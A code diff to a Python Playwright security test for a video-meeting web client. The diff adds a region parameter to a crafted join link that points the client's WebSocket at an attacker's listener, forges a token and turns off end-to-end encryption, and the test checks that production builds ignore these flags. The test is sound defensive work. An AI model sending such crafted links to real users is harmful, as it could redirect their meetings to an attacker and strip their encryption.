@@ -1120,7 +1120,7 @@ CSP_PROBE = """async (url) => {
 
 def client_pages(pw: Playwright, cfg: dict[str, Any], result: dict[str, Any]) -> None:
     """Issue 12, point 4. A production join page opened from a crafted link (?ws= to an attacker's listener,
-    ?token=, ?e2ee=0, ?autojoin=1) ignores those flags, joins the node its join answer names, keeps E2EE on,
+    ?token=, ?e2ee=0, ?autojoin=1, ?region=) ignores those flags, joins the node its join answer names, keeps E2EE on,
     and its CSP blocks a WebSocket to another host; its footer shows the release hash of the files it fetched.
     A development build (served so by its own server) honours the same flags: the listener sees that
     connection, so its silence for the production page means something."""
@@ -1136,7 +1136,7 @@ def client_pages(pw: Playwright, cfg: dict[str, Any], result: dict[str, Any]) ->
     link = cfg["links"]["meeting"]
     browser = launch(pw, cfg)
     try:
-        crafted = (f"{base}/j/{link['link']}?ws={evil_ws}&token=forged&e2ee=0&autojoin=1&name=Victim"
+        crafted = (f"{base}/j/{link['link']}?ws={evil_ws}&token=forged&e2ee=0&autojoin=1&region=us-1&name=Victim"
                    f"#k={cfg['secret']}")
         p = open_page(browser, crafted, console, "prod", viewport={"width": 1100, "height": 680})
         wait_js(p, "document.querySelector('#preview').videoWidth > 0", timeout=10000)
